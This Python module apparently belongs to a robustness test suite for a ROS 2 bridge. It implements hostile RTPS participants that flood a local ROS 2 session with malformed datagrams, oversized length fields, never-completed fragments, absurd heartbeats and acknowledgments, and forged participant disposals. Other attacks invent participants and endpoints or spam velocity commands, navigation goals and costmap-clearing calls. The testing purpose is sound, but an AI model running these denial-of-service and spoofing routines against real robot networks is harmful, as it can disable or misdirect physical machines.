"""Attacks on the ROS 2 graph of a session, and an honest node on this graph.

Most attackers are real participants: they use this project's RTPS to be matched with the session's endpoints, and then
send what no honest participant sends.
"""

import asyncio
import os
import random
import select
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from itertools import cycle, islice

from thbridge.ros2.distribution import Distribution
from thbridge.ros2.qos import LATCHED, SERVICES, QosProfile
from thbridge.ros2graph.sockets.carrier import GraphCarrier
from thbridge.ros2graph.sockets.dds import DdsCarrier
from thbridge.ros2graph.values.graph import NodeName
from thbridge.ros2graph.wire.rtps import guids, ports
from thbridge.ros2graph.wire.rtps import submessages as rtps
from thbridge.ros2graph.wire.rtps.dds_graph import DdsGraph
from thbridge.ros2graph.wire.rtps.discovery import EndpointData, ParticipantData, disposal
from thbridge.ros2graph.wire.rtps.entities_info import NodeEntities, encode_entities
from thbridge.ros2graph.wire.rtps.parameters import UdpAddress
from thbridge.ros2graph.wire.rtps.participant import RtpsParticipant
from thbridge.ros2graph.wire.rtps.ros_names import DISCOVERY_TOPIC, DISCOVERY_TYPE, topic_name

HOST = "127.0.0.1"
PATIENCE = 10.0
_DOMAINS = range(101, 121)
_GET = "rcl_interfaces/srv/GetParameters"
_GOAL = "nav2_msgs/action/NavigateToPose"
_LARGEST = 1 << 61
_FULL = 60_000
"""Bytes of a datagram that is filled with submessages."""
_AHEAD = 64
"""Datagrams that a flood sends before it gives way to other programs."""


def free_domain() -> int:
    """Return a domain in which no participant on this machine has the first ports."""
    for domain in _DOMAINS:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            try:
                probe.bind((HOST, ports.metatraffic_port(domain, 0)))
            except OSError:
                continue
            return domain
    raise OSError("all domains are in use")


class HonestNode:
    """Node that gets a parameter of the session again and again, and listens to its clock.

    Args:
        carrier: connection to the graph, before it is started.
        name: name of the node.
    """

    def __init__(self, carrier: GraphCarrier, name: str = "honest") -> None:
        self._loop = asyncio.new_event_loop()
        self._carrier = carrier
        self._ticks = 0
        types, node = Distribution.of("jazzy"), NodeName("/", name)
        self._request = types.encode(f"{_GET}_Request", types.make(f"{_GET}_Request", names=["min_particles"]))
        self._client = self._carrier.client(node, "/robot1/amcl/get_parameters", types.service(_GET))
        clock = types.message("rosgraph_msgs/msg/Clock")
        self._carrier.subscribe(node, "/clock", clock, QosProfile(), self._hear)
        threading.Thread(target=self._loop.run_forever, daemon=True).start()
        if self._do(self._carrier.start()) is not None:
            raise OSError("the honest node cannot join the graph")
        self.go_on()

    def go_on(self) -> None:
        """Call a service of the session, and wait for the next time on its clock.

        Raises:
            OSError: the session does not answer.
        """
        self._do(self._ask())

    def close(self) -> None:
        """Leave the graph."""
        self._do(self._carrier.stop())
        self._loop.call_soon_threadsafe(self._loop.stop)

    def _do(self, coroutine: object) -> object:
        return asyncio.run_coroutine_threadsafe(coroutine, self._loop).result(2 * PATIENCE)  # type: ignore[arg-type]

    async def _ask(self) -> None:
        answered = asyncio.Event()
        before = self._ticks
        async with asyncio.timeout(PATIENCE):
            while not self._client.has_server:
                await asyncio.sleep(0.005)
            self._client.call(self._request, lambda response: answered.set())
            await answered.wait()
            while self._ticks == before:
                await asyncio.sleep(0.005)

    def _hear(self, message: bytes, publisher: bytes) -> None:
        self._ticks += 1


class HostileParticipant:
    """Participant of the session's domain that can send anything.

    Args:
        domain: domain of the graph.
        alone: announce it only to the session, and not to other participants.
    """

    def __init__(self, domain: int, *, alone: bool = True) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((HOST, 0))
        self.socket.setblocking(False)
        self.door = UdpAddress(HOST, ports.metatraffic_port(domain, 0))
        """Address of the session for discovery; the next port is that for messages."""
        own = UdpAddress(HOST, self.socket.getsockname()[1])
        prefix = rtps.VENDOR + os.urandom(guids.PREFIX_SIZE - 2)
        self.participant = RtpsParticipant(prefix, ports.reach_on_loopback, 16_000)
        self.graph = DdsGraph(self.participant, time.time_ns, lambda: None, lambda fault: None)
        self.participant.start(own, own, [self.door] if alone else ports.initial_addresses(domain, HOST))

    def live(self, seconds: float) -> None:
        """Behave as an honest participant for some time."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            select.select([self.socket], [], [], 0.01)
            self._hear()
            self.graph.tick(time.monotonic_ns())
            for address, datagram in self._drained():
                self._send(datagram, address)

    def send(self, submessages: Sequence[bytes], prefix: bytes = b"", *, discovery: bool = False) -> None:
        """Send a datagram, which may have the prefix of another participant."""
        datagram = rtps.encode_header(prefix or self.participant.prefix) + b"".join(submessages)
        self._send(datagram, self.door if discovery else UdpAddress(HOST, self.door.port + 1))

    def flood(self, datagrams: Iterator[bytes], *, discovery: bool = False) -> int:
        """Send bytes; return the number of datagrams. The session is alive for it as long as it is for the flood."""
        count = 0
        for datagram in datagrams:
            self._send(datagram, self.door if discovery else UdpAddress(HOST, self.door.port + 1))
            count += 1
            if count % _AHEAD == 0:
                time.sleep(0.001)
        return count

    def filled(self, submessages: Sequence[bytes]) -> bytes:
        """Return a long datagram that repeats submessages."""
        times = max(1, _FULL // sum(map(len, submessages)))
        return rtps.encode_header(self.participant.prefix) + b"".join(submessages) * times

    def write_all(self, write: Callable[[int], object], count: int) -> int:
        """Write messages as fast as the session acknowledges, or faster."""
        for number in range(count):
            write(number)
            for address, datagram in self._drained():
                self._send(datagram, address)
            if number % 20 == 0:
                self.live(0.01)
        return count

    def _drained(self) -> Sequence[tuple[UdpAddress, bytes]]:
        return self.participant.drain()

    def _hear(self) -> None:
        for _ in range(200):
            try:
                datagram, source = self.socket.recvfrom(65_536)
            except OSError:
                return
            self.participant.receive(datagram, source[0], time.monotonic_ns(), time.time_ns())

    def _send(self, datagram: bytes, address: UdpAddress) -> None:
        try:
            self.socket.sendto(datagram, address)
        except OSError:
            time.sleep(0.001)


def random_bytes(domain: int, seed: int, count: int) -> tuple[int, int]:
    """Send random bytes, half of them after a correct header."""
    draws, foe = random.Random(seed), HostileParticipant(domain)
    sizes = (draws.choice((4, 60, 1400, 30_000)) for _ in range(count))
    data = (rtps.encode_header(draws.randbytes(12)) * draws.randrange(2) + draws.randbytes(size) for size in sizes)
    return foe.flood(data, discovery=bool(seed % 2)), 0


def damaged_datagrams(domain: int, seed: int, count: int) -> tuple[int, int]:
    """Send datagrams of honest participants with changed bytes."""
    draws, foe = random.Random(seed), HostileParticipant(domain)
    types, node = Distribution.of("jazzy"), NodeName("/", "damaged")
    writer = foe.graph.writer(node, topic_name("/robot1/cmd_vel"), types.message("geometry_msgs/msg/Twist"), SERVICES)
    foe.graph.reader(
        node, topic_name("/clock"), types.message("rosgraph_msgs/msg/Clock"), SERVICES, lambda sample: None
    )
    foe.live(1.0)
    kept: list[bytes] = []
    message = types.encode("geometry_msgs/msg/Twist", types.make("geometry_msgs/msg/Twist"))
    for number in range(200):
        foe.graph.write(writer, message)
        foe.graph.tick(time.monotonic_ns() + number * 100_000_000)
        kept += [datagram for _, datagram in foe.participant.drain()]

    def damaged() -> Iterator[bytes]:
        for _ in range(count):
            data = bytearray(draws.choice(kept))
            for _ in range(draws.choice((1, 1, 2, 5, 50))):
                data[draws.randrange(20, len(data))] = draws.choice((0, 1, 127, 128, 255, draws.randrange(256)))
            yield bytes(data[: draws.choice((len(data), len(data), draws.randrange(20, len(data))))])

    return foe.flood(damaged(), discovery=bool(seed % 2)), 0


def huge_numbers(domain: int, count: int) -> tuple[int, int]:
    """Send submessages, discovery and messages that announce more than they contain."""
    foe = HostileParticipant(domain)
    types, node = Distribution.of("jazzy"), NodeName("/", "huge")
    service = types.service("rcl_interfaces/srv/SetParameters")
    client = foe.graph.client(node, "/robot1/amcl/set_parameters", service)
    foe.live(1.5)
    info = foe.participant.guid + struct.pack("<I", 0xFFFFFFFF)
    claims = [
        b"\x00\x01\x00\x00" + struct.pack("<I", number) + bytes(60_000 if number > 9 else 8)
        for number in (2**31, 2**32 - 1, 60_000, 7)
    ]
    lists = [struct.pack("<HH", 0x50, 65_532) + bytes(40), struct.pack("<HH", 5, 0) * 15_000]
    foe.write_all(lambda number: client.call(claims[number % 4], lambda response: None), count // 10)
    head = rtps.encode_header(foe.participant.prefix)
    data = [
        *(rtps.encode_data(guids.SPDP_WRITER, 1, b"\x00\x03\x00\x00" + each, 0) for each in lists),
        *(
            rtps.encode_data(guids.PUBLICATIONS_WRITER, 1 + at, b"\x00\x03\x00\x00" + each, 0)
            for at, each in enumerate(lists)
        ),
        rtps.encode_data(guids.writer_id(1), 2, b"\x00\x01\x00\x00" + info, 0),
        rtps.encode_data(guids.writer_id(1), 2, b"\x00\x01", 0, lists[1]),
        *(struct.pack("<BBH", kind, 1, 65_535) + b"\xff" * 100 for kind in range(24)),
        *(struct.pack("<BBH", kind, 1, 100) + b"\xff" * 100 for kind in range(24)),
        *(struct.pack("<BBH", kind, 1, 0) + b"\xff" * 30_000 for kind in range(24)),
    ]
    return foe.flood((head + data[number % len(data)] for number in range(count)), discovery=True), 0


def endless_fragments(domain: int, count: int) -> tuple[int, int]:
    """Send fragments of one byte that are never complete, for all services of a robot, and ask about them."""
    foe, types = HostileParticipant(domain), Distribution.of("jazzy")
    node, writers = NodeName("/", "pieces"), []
    for name in ("amcl", "bt_navigator", "controller_server", "planner_server"):
        for kind in ("get_parameters", "set_parameters", "list_parameters", "describe_parameters"):
            service = types.service(f"rcl_interfaces/srv/{kind.title().replace('_', '')}")
            for _ in range(4):
                topic = f"rq/robot1/{name}/{kind}Request"
                writers.append(foe.graph.writer(node, topic, service.request, SERVICES))
    foe.live(2.0)
    size = 32_000

    def pieces() -> Iterator[bytes]:
        head = rtps.encode_header(foe.participant.prefix)
        for number in range(count):
            writer, sequence = writers[number % len(writers)], 1 + number // len(writers) % 8
            fragment = struct.pack("<4sIIHHI", bytes(4), 0, 0, 0, 0, 0)
            body = struct.pack("<HH4s4siI", 0, 28, guids.UNKNOWN, writer.id, 0, sequence)
            fragment = body + struct.pack("<IHHI", 1, size - 1, 1, size) + bytes(size - 1)
            yield head + struct.pack("<BBH", 0x16, 1, len(fragment)) + fragment

    sent = foe.flood(pieces())
    for writer in writers:
        beats = [
            rtps.encode_heartbeat(guids.UNKNOWN, writer.id, 1, 8, beat, final=False)
            for beat in range(sent, sent + 1800)
        ]
        sent += foe.flood(foe.filled(beats) for _ in range(max(1, count // 2000)))
    return sent, 0


def absurd_heartbeats(domain: int, count: int) -> tuple[int, int]:
    """Announce samples that do not exist, thousands of times in a datagram."""
    foe, types = HostileParticipant(domain), Distribution.of("jazzy")
    node = NodeName("/", "beats")
    support = types.message("geometry_msgs/msg/Twist")
    writers = [foe.graph.writer(node, topic_name("/robot1/cmd_vel"), support, SERVICES) for _ in range(8)]
    foe.live(1.5)
    ranges = [(1, 256), (1, _LARGEST), (_LARGEST, _LARGEST), (5, 4), (1, 2**32), (2**31, 2**33)]

    def beats() -> Iterator[bytes]:
        for number in range(count):
            writer, (first, last) = writers[number % 8].id, ranges[number % len(ranges)]
            many = range(1800 * number, 1800 * number + 1800)
            yield foe.filled(
                [rtps.encode_heartbeat(guids.UNKNOWN, writer, first, last, beat, final=False) for beat in many]
            )

    return foe.flood(beats()), 0


def absurd_acknowledgments(domain: int, count: int) -> tuple[int, int]:
    """Request samples and fragments again, thousands of times in a datagram."""
    foe, types = HostileParticipant(domain), Distribution.of("jazzy")
    node = NodeName("/", "requests")
    reader = foe.graph.reader(
        node, topic_name("/robot1/map"), types.message("nav_msgs/msg/OccupancyGrid"), LATCHED, lambda sample: None
    )
    foe.graph.reader(node, topic_name("/tf"), types.message("tf2_msgs/msg/TFMessage"), SERVICES, lambda sample: None)
    foe.live(1.5)
    targets = [guid[-4:] for guid in reader.writers] or [guids.writer_id(1)]
    sent: list[bytes] = []
    for base, fragment in ((1, 1), (2**20, 2**20), (_LARGEST, 2**32 - 300)):
        for target, own in ((targets[0], reader.id), (guids.PUBLICATIONS_WRITER, guids.PUBLICATIONS_READER)):
            samples, fragments = range(base, base + 256), range(fragment, fragment + 256)
            asked = [rtps.encode_acknowledgment(own, target, base, samples, at, final=False) for at in range(900)]
            sent += [foe.filled(asked)]
            sent += [foe.filled([rtps.encode_fragment_request(own, target, 1, fragments, at) for at in range(900)])]
    return foe.flood(islice(cycle(sent), count)), 0


def invented_participants(domain: int, count: int) -> tuple[int, int]:
    """Announce participants that do not exist, and never expire. Return 1 closed one if a new node cannot join then."""
    foe = HostileParticipant(domain)
    nowhere = [UdpAddress(HOST, 9)]

    def announcements() -> Iterator[bytes]:
        for _ in range(count):
            prefix = os.urandom(guids.PREFIX_SIZE)
            data = ParticipantData(prefix + guids.PARTICIPANT, rtps.VENDOR, nowhere, nowhere, None, b"enclave=/;")
            yield rtps.encode_header(prefix) + rtps.encode_data(guids.SPDP_WRITER, 1, data.encode(), 0)

    sent = foe.flood(announcements(), discovery=True)
    try:
        HonestNode(DdsCarrier(domain), "newcomer").close()
    except OSError:
        return sent, 1
    return sent, 0


def invented_endpoints(domain: int, count: int) -> tuple[int, int]:
    """Announce endpoints, writers of a session's topic among them, and a thousand nodes that have the session's."""
    foe = HostileParticipant(domain)
    foe.live(1.0)
    support = Distribution.of("jazzy").message("geometry_msgs/msg/Twist")
    twist = (support.dds_name, SERVICES, b"")

    def announce(number: int) -> None:
        if number % 2:
            foe.participant.add_writer(topic_name("/robot1/cmd_vel"), *twist, 0)
        else:
            foe.participant.add_reader(f"rt/invented{number}", *twist, lambda sample: None, 0)

    sent = foe.write_all(announce, count)
    listed = [each.guid for each in foe.participant.endpoints()][:100]
    info = encode_entities(
        foe.participant.guid, [NodeEntities(NodeName("/", f"n{at}"), listed, ()) for at in range(1000)]
    )
    writer = foe.participant.add_writer(DISCOVERY_TOPIC, DISCOVERY_TYPE, LATCHED, b"", 0)
    foe.live(1.0)
    return sent + foe.write_all(lambda number: foe.participant.write(writer, info, 0), 20), 0


def forged_disposals(domain: int, count: int) -> tuple[int, int]:
    """Say in the name of all other participants that they are gone, and in the own name that their endpoints are."""
    foe = HostileParticipant(domain, alone=False)
    foe.live(2.0)
    gone = [each.guid for each in foe.participant.endpoints()]
    own = foe.participant.prefix
    prefixes = {guid[: guids.PREFIX_SIZE] for guid in gone}

    def goodbyes() -> Iterator[bytes]:
        for number in range(count):
            for prefix in prefixes:
                inline, key = disposal(prefix + guids.PARTICIPANT)
                yield rtps.encode_header(prefix) + rtps.encode_data(guids.SPDP_WRITER, 2, key, 0, inline, key=True)
            guid = gone[number % len(gone)]
            inline, key = disposal(guid)
            by = guids.PUBLICATIONS_WRITER if guids.is_writer(guid) else guids.SUBSCRIPTIONS_WRITER
            yield rtps.encode_header(own) + rtps.encode_data(by, 1 + number % 50, key, 0, inline, key=True)
            time.sleep(0.01)

    return foe.flood(goodbyes(), discovery=True), 0


def requests_without_end(domain: int, count: int) -> tuple[int, int]:
    """Send goals, velocity commands, parameters and service calls as fast as possible, as one node."""
    foe, types = HostileParticipant(domain), Distribution.of("jazzy")
    node = NodeName("/", "flooder")
    twist = types.message("geometry_msgs/msg/Twist")
    velocity = foe.graph.writer(node, topic_name("/robot1/cmd_vel"), twist, SERVICES)
    estimate_type = "geometry_msgs/msg/PoseWithCovarianceStamped"
    estimates = foe.graph.writer(node, topic_name("/robot1/initialpose"), types.message(estimate_type), SERVICES)
    calls: dict[str, tuple[str, dict[str, object]]] = {
        "/robot1/amcl/set_parameters": ("rcl_interfaces/srv/SetParameters", {}),
        "/robot1/map_server/map": ("nav_msgs/srv/GetMap", {}),
        "/robot1/amcl/get_type_description": ("type_description_interfaces/srv/GetTypeDescription", {}),
        "/robot1/reinitialize_global_localization": ("std_srvs/srv/Empty", {}),
        "/robot1/global_costmap/clear_entirely_global_costmap": ("nav2_msgs/srv/ClearEntireCostmap", {}),
        "/robot1/local_costmap/clear_around_local_costmap": (
            "nav2_msgs/srv/ClearCostmapAroundRobot",
            {"reset_distance": 1.0},
        ),
        "/robot1/global_costmap/get_costmap": ("nav2_msgs/srv/GetCostmap", {}),
        "/robot1/is_path_valid": ("nav2_msgs/srv/IsPathValid", {}),
    }
    clients = []
    for service, (type_name, fields) in calls.items():
        request = types.encode(f"{type_name}_Request", types.make(f"{type_name}_Request", **fields))
        clients.append((foe.graph.client(node, service, types.service(type_name)), request))
    goal = types.action(_GOAL).send_goal
    goals = foe.graph.client(node, "/robot1/navigate_to_pose/_action/send_goal", goal)
    empty = types.encode(goal.request.name, types.make(goal.request.name))
    foe.live(2.0)
    commands = types.encode("geometry_msgs/msg/Twist", types.make("geometry_msgs/msg/Twist"))
    pose = types.encode(estimate_type, types.make(estimate_type))

    def write(number: int) -> None:
        foe.graph.write(velocity, commands)
        foe.graph.write(estimates, pose)
        goals.call(empty[:4] + os.urandom(16) + empty[20:], lambda response: None)
        for client, request in clients:
            client.call(request, lambda response: None)

    return (3 + len(clients)) * foe.write_all(write, count), 0


def silent_readers(domain: int, seconds: float) -> tuple[int, int]:
    """Subscribe to all topics of the session, as a reliable reader that never acknowledges, but stays alive."""
    foe = HostileParticipant(domain)
    foe.live(1.5)
    count = 0
    for each in list(foe.participant.endpoints()):
        if each.is_writer and each.topic.startswith("rt/"):
            for _ in range(3):
                foe.participant.add_reader(each.topic, each.type, each.qos, b"", lambda sample: None, 0)
                count += 1
    foe.live(1.5)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        foe.participant.tick(time.monotonic_ns())
        for address, datagram in foe.participant.drain():
            if len(datagram) < 500:  # It announces itself, and does not answer.
                foe.send([datagram[20:]], discovery=address == foe.door)
        time.sleep(0.5)
    return count, 0


def many_readers(domain: int, participants: int, seconds: float) -> tuple[int, int]:
    """Subscribe to all topics of the session as many participants, which never acknowledge."""
    return sum(silent_readers(domain, seconds / participants)[0] for _ in range(participants)), 0


def repeated_announcements(domain: int, count: int) -> tuple[int, int]:
    """Announce the same participant and the same endpoints again and again, each time with other values."""
    foe, support = HostileParticipant(domain), Distribution.of("jazzy").message("geometry_msgs/msg/Twist")
    foe.participant.add_writer(topic_name("/robot1/cmd_vel"), support.dds_name, SERVICES, b"", 0)
    foe.live(1.0)
    own = UdpAddress(HOST, foe.socket.getsockname()[1])
    prefix = foe.participant.prefix

    def announcements() -> Iterator[bytes]:
        for number in range(count):
            data = ParticipantData(
                foe.participant.guid, rtps.VENDOR, [own] * 16, [own] * 16, number, bytes(number % 4000)
            )
            spdp = rtps.encode_data(guids.SPDP_WRITER, 1 + number, data.encode(), 0)
            qos = QosProfile(1 + number % 9)
            endpoint = EndpointData(
                prefix + guids.writer_id(2), topic_name("/robot1/cmd_vel"), support.dds_name, qos, b""
            )
            sedp = rtps.encode_data(guids.PUBLICATIONS_WRITER, 3 + number, endpoint.encode(), 0)
            yield foe.filled([spdp, sedp])

    return foe.flood(announcements(), discovery=True), 0


def attacks_on_ros2(domain: int, scale: int) -> Iterator[tuple[str, Callable[[], tuple[int, int]]]]:
    """Yield attacks with their names. Each returns the number of tries, and 1 if a new node could not join then."""
    yield "ROS 2: random bytes", partial(random_bytes, domain, 1, 2000 * scale)
    yield "ROS 2: random bytes for discovery", partial(random_bytes, domain, 2, 2000 * scale)
    yield "ROS 2: damaged datagrams", partial(damaged_datagrams, domain, 1, 5000 * scale)
    yield "ROS 2: damaged discovery", partial(damaged_datagrams, domain, 2, 5000 * scale)
    yield "ROS 2: huge counts and lengths", partial(huge_numbers, domain, 2000 * scale)
    yield "ROS 2: fragments that are never complete", partial(endless_fragments, domain, 1000 * scale)
    yield "ROS 2: absurd heartbeats", partial(absurd_heartbeats, domain, 500 * scale)
    yield "ROS 2: absurd acknowledgments", partial(absurd_acknowledgments, domain, 500 * scale)
    yield "ROS 2: forged disposals", partial(forged_disposals, domain, 200 * scale)
    yield "ROS 2: requests without end", partial(requests_without_end, domain, 1000 * scale)
    yield "ROS 2: readers that never acknowledge", partial(silent_readers, domain, 6.0)
    yield "ROS 2: readers of many participants", partial(many_readers, domain, 8, 8.0)
    yield "ROS 2: repeated announcements", partial(repeated_announcements, domain, 100 * scale)
    yield "ROS 2: invented endpoints", partial(invented_endpoints, domain, 2500 * scale)
    yield "ROS 2: invented participants", partial(invented_participants, domain, 2000 * scale)
